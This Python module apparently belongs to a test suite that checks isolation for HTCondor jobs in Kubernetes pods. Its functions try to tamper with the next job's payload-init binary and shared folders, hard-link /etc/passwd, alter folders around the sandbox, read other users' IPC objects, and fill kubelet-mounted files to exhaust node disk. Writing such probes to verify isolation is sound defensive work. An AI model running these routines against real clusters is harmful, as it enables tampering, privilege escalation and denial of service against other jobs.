"""Attacks on files that are not the job's, and on what containers of a pod share."""

import mmap
import os
import socket
import stat
import struct
from pathlib import Path

from .tools import EXCHANGE, attack, opened, tries, written


@attack
def exchange() -> list[str]:
    """Change what the next job's payload-init and its pilot rely on."""
    gained = []
    for folder in (EXCHANGE, f"{EXCHANGE}/bin"):
        gained += tries(
            (f"a file in {folder}", written, f"{folder}/evil", "x"),
            (f"a link in {folder}", os.symlink, "/", f"{folder}/evil"),
            (f"mode of {folder}", os.chmod, folder, 0o777),
            (f"attributes of {folder}", os.setxattr, folder, "user.evil", b"x"),
            (f"renaming in {folder}", os.rename, f"{folder}/{os.listdir(folder)[0]}", f"{folder}/evil"),
            (f"removing from {folder}", os.unlink, f"{folder}/{os.listdir(folder)[-1]}"),
        )
    gained += tries(
        ("payload-init for writing", opened, f"{EXCHANGE}/bin/payload-init", os.O_RDWR),
        ("the running payload-init", opened, f"/proc/{os.getppid()}/exe", os.O_RDWR),
        ("a socket in its place", socket.socket(socket.AF_UNIX).bind, f"{EXCHANGE}/payload.sock2"),
        ("writing by a map", _write_by_map, f"{EXCHANGE}/bin/payload-init"),
    )
    return gained


def _write_by_map(path: str) -> None:
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 16, prot=mmap.PROT_READ | mmap.PROT_WRITE) as area:
        area[0] = 0


@attack
def hard_links() -> list[str]:
    """To what is not one's own, from where one may write."""
    execute = os.environ["_CONDOR_SCRATCH_DIR"].rsplit("/", 1)[0]
    own = os.environ["_CONDOR_SCRATCH_DIR"]
    targets = [
        f"{EXCHANGE}/bin/payload-init",
        f"{EXCHANGE}/payload.sock",
        "/etc/passwd",
        "/etc/hosts",
        "/etc/resolv.conf",
    ]
    # What it may write to is its own, whoever has made it.
    others = [f"{own}/{one}" for one in os.listdir(own) if os.stat(f"{own}/{one}").st_uid != os.getuid()]
    targets += [path for path in others if not os.access(path, os.W_OK)]
    gained = []
    for target in targets:
        for folder in (own, "/tmp", execute):
            gained += tries((f"{target} in {folder}", os.link, target, f"{folder}/hard"))
    return gained


@attack
def beside_the_sandbox() -> list[str]:
    """The folders around the sandbox are HTCondor's, those of the scratch volumes the kubelet's."""
    own = Path(os.environ["_CONDOR_SCRATCH_DIR"])
    gained = []
    for folder in (own.parent, own.parent.parent, Path("/var/lib/condor/execute")):
        gained += tries(
            (f"a file in {folder}", written, f"{folder}/evil", "x"),
            (f"a folder in {folder}", os.mkdir, f"{folder}/dir_999"),
            (f"the sandbox's name in {folder}", os.rename, str(own), f"{folder}/dir_998"),
            (f"mode of {folder}", os.chmod, str(folder), 0o777),
        )
    for place in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", str(own.parent)):
        attribute = (f"an attribute of {place}", os.setxattr, place, "user.leftover-of-alice", b"x")
        if place in ("/tmp", "/var/tmp") and os.environ.get("ATTACK_LEVEL") == "restricted":
            tries(attribute)  # which is possible there, and the witness looks for
        else:
            gained += tries(attribute)
        gained += tries(
            (f"an access list of {place}", os.setxattr, place, "system.posix_acl_default", ACL),
            (f"mode of {place}", os.chmod, place, 0o777),
            (f"time of {place}", os.utime, place, (1, 1)),
        )
    return gained


ACL = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 7, 0xFFFFFFFF) for tag in (1, 4, 0x20))


@attack
def the_pilots_kernel_objects() -> list[str]:
    """System V IPC, POSIX queues, shared memory and locks of others."""
    gained = []
    for kind, columns in (("shm", 7), ("sem", 4), ("msg", 7)):
        for line in Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]:
            if line.split()[columns] != str(os.getuid()):
                gained.append(f"{kind}: {line}")
    for folder in ("/dev/shm", "/dev/mqueue"):
        paths = [f"{folder}/{one}" for one in os.listdir(folder)]
        gained += [path for path in paths if os.stat(path).st_uid != os.getuid() and os.access(path, os.R_OK)]
    return gained


@attack
def kubelets_files() -> list[str]:
    """Fill what kubelet and runtime mount for a container: files on the node's disk, which no limit counts."""
    points = {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}
    assert "/etc/hosts" in points
    places = sorted({*points, "/dev/termination-log"})
    files = [path for path in places if not os.path.exists(path) or _is_file(path)]
    return tries(*((path, _filled, path) for path in files))


def _is_file(path: str) -> bool:
    return stat.S_ISREG(os.stat(path).st_mode)


def _filled(path: str) -> None:
    descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
    for _ in range(64):
        os.write(descriptor, bytes(2**20))
    os.close(descriptor)
